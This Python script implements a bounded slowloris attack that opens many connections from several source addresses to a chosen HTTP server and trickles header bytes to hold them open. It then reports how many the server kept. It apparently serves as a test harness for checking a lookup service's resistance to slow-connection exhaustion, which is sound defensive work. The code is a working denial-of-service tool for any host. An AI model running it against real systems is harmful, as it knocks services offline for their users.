#!/usr/bin/env python3
"""A bounded slowloris: open CONNS connections from each source address to
HOST:PORT, send a request line, then one header byte every INTERVAL
seconds, for DURATION seconds. Prints how many connections were opened and
how many the server still held at the end (it closes the ones it refuses
or times out), so a test can tell the attack really held its connections.

    slowloris.py HOST PORT CONNS INTERVAL DURATION SRC [SRC...]
"""
import socket
import sys
import time


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    conns, interval, duration = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    sources = sys.argv[6:]
    socks = []
    for src in sources:
        for _ in range(conns):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((src, 0))
            s.settimeout(2)
            try:
                s.connect((host, port))
                s.sendall(b"GET /lookup?q=192.0.2.1 HTTP/1.1\r\nHost: lg\r\n")
                socks.append(s)
            except OSError:
                s.close()
    opened = len(socks)
    end = time.monotonic() + duration
    while time.monotonic() < end:
        time.sleep(min(interval, max(0.0, end - time.monotonic())))
        for s in socks:
            try:
                s.send(b"X")
            except OSError:
                pass
    held = 0
    for s in socks:
        s.setblocking(False)
        try:
            s.recv(1, socket.MSG_PEEK)      # an answer or the end: let go
        except BlockingIOError:
            held += 1       # open, nothing sent back: still held
        except OSError:
            pass
        s.close()
    print(f"opened {opened} held {held}")


if __name__ == "__main__":
    main()
